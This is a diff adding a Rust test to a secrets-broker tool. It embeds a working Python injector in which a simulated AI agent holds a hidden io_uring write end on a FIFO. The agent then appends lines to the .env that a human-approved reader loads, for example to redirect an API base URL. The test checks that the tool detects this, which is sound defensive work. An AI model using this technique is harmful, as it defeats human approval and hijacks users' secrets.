@@ -400,3 +400,153 @@ fn the_agent_reads_the_values_from_the_readers_memory() {
         "the agent read {leaked} values from the reader's memory"
     );
 }
+
+/// The agent's side of an injection: once the honest reader holds the mount (its card is
+/// shown), opens `/proc/READER/fd/N` **for writing** (the FIFO is still 0600: the swap and
+/// the watch come only with the approval), registers it in an io_uring instance and closes
+/// it, so `/proc/*/fd` shows only the reader. The broker serves the text; the agent waits
+/// until the FIFO's modification time (`stat(/proc/READER/fd/N)`, no descriptor) has been
+/// still for 300 ms (the text is done), then appends a line through the ring and exits: the
+/// reader, which gets end-of-file only when every writer is gone, reads that line as part
+/// of `.env`.
+const INJECTOR: &str = r#"
+import os, sys, time, ctypes, mmap, struct
+path, ready = sys.argv[1:3]
+st = os.stat(path); dev, ino = st.st_dev, st.st_ino
+me = os.getpid(); pid = fdn = None; t0 = time.time()
+while pid is None and time.time() - t0 < 20:
+    for p in os.listdir("/proc"):
+        if not p.isdigit() or int(p) == me:
+            continue
+        try:
+            for f in os.listdir(f"/proc/{p}/fd"):
+                try:
+                    s = os.stat(f"/proc/{p}/fd/{f}")
+                    if s.st_dev == dev and s.st_ino == ino:
+                        pid, fdn = int(p), f
+                except OSError:
+                    pass
+        except OSError:
+            pass
+    time.sleep(0.01)
+assert pid is not None, "no reader"
+time.sleep(0.3)
+src = f"/proc/{pid}/fd/{fdn}"
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+params = ctypes.create_string_buffer(120)
+ring = libc.syscall(425, 4, params)
+assert ring >= 0, ctypes.get_errno()
+sq_entries, cq_entries = struct.unpack_from("II", params.raw, 0)
+sq_off = struct.unpack_from("IIIIIIIIQ", params.raw, 40)
+cq_off = struct.unpack_from("IIIIIIIIQ", params.raw, 80)
+sqr = mmap.mmap(ring, sq_off[6] + sq_entries * 4, offset=0)
+cqr = mmap.mmap(ring, cq_off[5] + cq_entries * 16, offset=0x8000000)
+sqes = mmap.mmap(ring, sq_entries * 64, offset=0x10000000)
+fd = os.open(src, os.O_WRONLY | os.O_NONBLOCK)
+arr = (ctypes.c_int * 1)(fd)
+assert libc.syscall(427, ring, 2, arr, 1) == 0, ctypes.get_errno()
+os.close(fd)  # only the ring holds the write end now
+open(ready, "w").close()
+m0 = os.stat(src).st_mtime_ns; moved = None; t0 = time.time()
+while time.time() - t0 < 30:
+    try:
+        m = os.stat(src).st_mtime_ns
+    except OSError:
+        sys.exit(0)  # the reader is gone
+    if m != m0:
+        m0, moved = m, time.time()
+    elif moved and time.time() - moved > 0.3:
+        break
+    time.sleep(0.005)
+line = ctypes.create_string_buffer(b"\nINJECTED_BY_AGENT=1\n")
+tail = struct.unpack_from("I", sqr, sq_off[1])[0]
+mask = struct.unpack_from("I", sqr, sq_off[2])[0]
+i = tail & mask
+sqe = bytearray(64)
+# IORING_OP_WRITE (23) on fixed file 0 (IOSQE_FIXED_FILE).
+struct.pack_into("BBHiQQII", sqe, 0, 23, 1, 0, 0, 0, ctypes.addressof(line), len(line.raw) - 1, 0)
+sqes[i * 64:(i + 1) * 64] = bytes(sqe)
+struct.pack_into("I", sqr, sq_off[6] + i * 4, i)
+struct.pack_into("I", sqr, sq_off[1], tail + 1)
+libc.syscall(426, ring, 1, 1, 1, None, 0)
+head = struct.unpack_from("I", cqr, cq_off[0])[0]
+cmask = struct.unpack_from("I", cqr, cq_off[2])[0]
+_, res, _ = struct.unpack_from("QiI", cqr, cq_off[5] + (head & cmask) * 16)
+sys.stdout.write(f"wrote {res}\n")
+"#;
+
+/// A reader that loads `.env` and prints how many lines of it the agent wrote.
+const COUNTS_INJECTED: &str =
+    "import sys\nt = open('.env').read()\nsys.stdout.write(str(t.count('INJECTED_BY_AGENT=')))\n";
+
+/// The agent appends its own lines to the text the approved reader loads: a write end held
+/// only through an io_uring ring (opened before the approval, when the FIFO was still
+/// writable and unwatched) keeps the reader from end-of-file after the broker is done, and
+/// what it writes then is read as `.env`. A loader takes the last (python-dotenv, `sh`) or
+/// the first value of a name: the agent can add variables or override one the human's
+/// values go with (an API base URL next to its key), so the approved program sends a value
+/// where the agent likes. Was unreported (the watch counted writes only while the pieces
+/// went; the audit said `mount_read`). Held since: after the text the broker closes its write
+/// end through a read end of its own, whose non-blocking read says whether a writer remains,
+/// and keeps the watch until the reader closes; a remaining writer, or a write or mode change
+/// then, is audited `mount_read_suspect` (`after_text`), the grant ends and `keyveil mounts`
+/// says the reader may have loaded lines keyveil did not write. Detected, not prevented: the
+/// reader still reads what the agent writes.
+#[test]
+fn an_agent_cannot_append_lines_to_a_served_read_unreported() {
+    let h = Home::new();
+    let vals = values();
+    store(&h, &vals);
+    let p = Project::new();
+    mount(&h, &p);
+    let ready = p.tmp.path().join("injector-ready");
+    let injector = Command::new("python3")
+        .args([
+            "-c",
+            INJECTOR,
+            p.env_file().to_str().unwrap(),
+            ready.to_str().unwrap(),
+        ])
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let reader = p.reader(&["python3", "-c", COUNTS_INJECTED], &[]);
+    let card = wait_card(&h);
+    let t0 = std::time::Instant::now();
+    while !ready.exists() {
+        assert!(
+            t0.elapsed() < Duration::from_secs(30),
+            "the injector never got ready"
+        );
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    approve_card(&h, &card, &[]);
+    let injected = wait_output(injector, Duration::from_secs(60));
+    let honest = finished(reader);
+    assert!(
+        injected.status.success(),
+        "injector failed: {}",
+        text(&injected.stderr)
+    );
+    let audit = h.audit_text();
+    let mounts = h.ok(&["mounts"]);
+    let reported = audit.contains("\"mount_read_suspect\"");
+    assert!(
+        text(&honest.stdout) == "0" || reported,
+        "the reader loaded {} line(s) the agent wrote, unreported ({}); mounts: {mounts}",
+        text(&honest.stdout),
+        text(&injected.stdout).trim()
+    );
+    if reported {
+        // Seen after the text: the grant ended, the human told.
+        assert!(audit.contains("\"after_text\":true"), "{audit}");
+        assert!(
+            audit.contains("may have been written into by another process"),
+            "{audit}"
+        );
+        assert!(mounts.contains("possible tampering"), "{mounts}");
+    }
+}
